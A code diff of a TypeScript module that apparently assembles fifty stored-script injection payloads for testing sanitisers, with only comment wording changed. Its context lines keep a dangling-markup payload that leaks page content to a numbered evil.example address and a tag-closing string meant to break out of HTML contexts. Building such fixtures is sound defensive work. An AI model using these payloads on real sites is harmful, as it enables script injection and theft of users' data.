@@ -1,4 +1,4 @@
-/** A kind of stored script. In its code, RUN stands for a script and EVIL for an address of an attacker. */
+/** A kind of stored script. In its code, RUN stands for a script call and EVIL for the address of an attacker. */
 interface Attack {
   kind: string;
   code: string;
@@ -126,11 +126,13 @@ const SOURCES: Attack[] = [
   { kind: 'dangling markup', code: `<img src='EVIL/?` },
 ];
 
-/** Closes every element that an earlier attack may have left open. */
+/** HTML that closes every element which an earlier attack may have left open. */
 export const CLOSING_TAGS =
   '-->]]>"\'></script></style></title></textarea></noscript></template></select></table></svg></math></form> ';
 
-/** Fifty kinds; each runs and requests something with a number of its own. */
+/**
+ * The fifty attacks. Each runs a script and requests an address with its own number, so that tests see which one ran.
+ */
 export const ATTACKS: readonly Attack[] = SOURCES.map(({ kind, code }, number) => ({
   kind,
   code: code
@@ -138,12 +140,12 @@ export const ATTACKS: readonly Attack[] = SOURCES.map(({ kind, code }, number) =
     .replaceAll('EVIL', `https://evil.example/${number}`),
 }));
 
-/** The code of one attack; numbers after the last one start again. */
+/** Returns the code of an attack by its number; numbers beyond the last attack begin again with the first. */
 export function attackCode(number: number): string {
   return ATTACKS[number % ATTACKS.length]?.code ?? '';
 }
 
-/** All attacks in one text, beginning with this one. */
+/** Returns all attacks in one text, beginning with the attack number `first`. */
 export function allAttacks(first: number): string {
   return ATTACKS.map((_, place) => attackCode(first + place)).join(CLOSING_TAGS);
 }
